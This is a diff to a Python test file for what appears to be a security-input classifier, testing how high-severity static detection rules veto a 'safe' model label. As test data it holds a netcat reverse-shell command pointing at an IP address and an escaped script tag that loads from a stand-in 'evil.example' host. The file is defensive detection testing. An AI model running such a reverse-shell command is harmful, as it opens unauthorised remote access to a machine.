@@ -259,15 +259,38 @@ def test_fwyy_rules_detector_row_is_the_static_checks_alone() -> None:
     assert verdicts[1].detail == "nothing matched" and "bash:" in verdicts[3].detail
 
 
-def test_only_high_and_critical_rules_veto_and_only_a_safe_label() -> None:
-    from fwyy_ollama.findings import VETO, veto_finding, vetoed
+def test_veto_rules_are_the_severe_rules_no_benign_training_input_trips() -> None:
+    """VETO_RULES is derived from the data: high or critical, and matching no safe training input."""
+    from fwyy_ollama.dataset.explain import FEATURES
+    from fwyy_ollama.findings import VETO_RULES
+
+    severe = {f"{c}:{f.name}" for c, fs in FEATURES.items() for f in fs if f.label.severity >= Label.HIGH.severity}
+    from fwyy_ollama.report import parse_report
+
+    tripped: set[str] = set()
+    for name in ("security.train.jsonl", "corpora.train.jsonl"):
+        for record in load_records(data_dir() / name):
+            if parse_report(record["output"]).label is Label.SAFE:
+                tripped |= {f"{f.category}:{f.name}" for f in static_findings(record["input"])}
+    assert VETO_RULES == severe - tripped
+    assert {"sqli:union", "sqli:comment", "xss:remote_script"} <= tripped  # real benign SQL and pages
+
+
+def test_a_veto_rule_overrules_only_a_safe_label() -> None:
+    from fwyy_ollama.findings import veto_finding, vetoed
 
     shell = veto_finding("nc -e /bin/sh 198.51.100.4 9001")
-    assert shell is not None and shell.label.severity >= VETO.severity
+    assert shell is not None and shell.label.severity >= Label.HIGH.severity
     assert vetoed(Label.SAFE, shell) is shell.label
     for risky in (Label.LOW, Label.MEDIUM, Label.HIGH):
         assert vetoed(risky, shell) is risky
     assert vetoed(Label.SAFE, None) is Label.SAFE
-    # Rules below VETO match benign code too: they are no veto.
-    for text in ("SELECT name FROM users WHERE id = '7'", "<b>bold</b>", "ls -la", "print('hi')"):
+    # Severe rules that benign inputs trip (a UNION query, an escaped script shown in a page) and
+    # lower rules are no veto.
+    for text in (
+        "SELECT id FROM a UNION SELECT id FROM b",
+        "<p>&lt;script src=//evil.example/x.js&gt;&lt;/script&gt;</p>",
+        "SELECT name FROM users WHERE id = '7'",
+        "ls -la",
+    ):
         assert veto_finding(text) is None, text
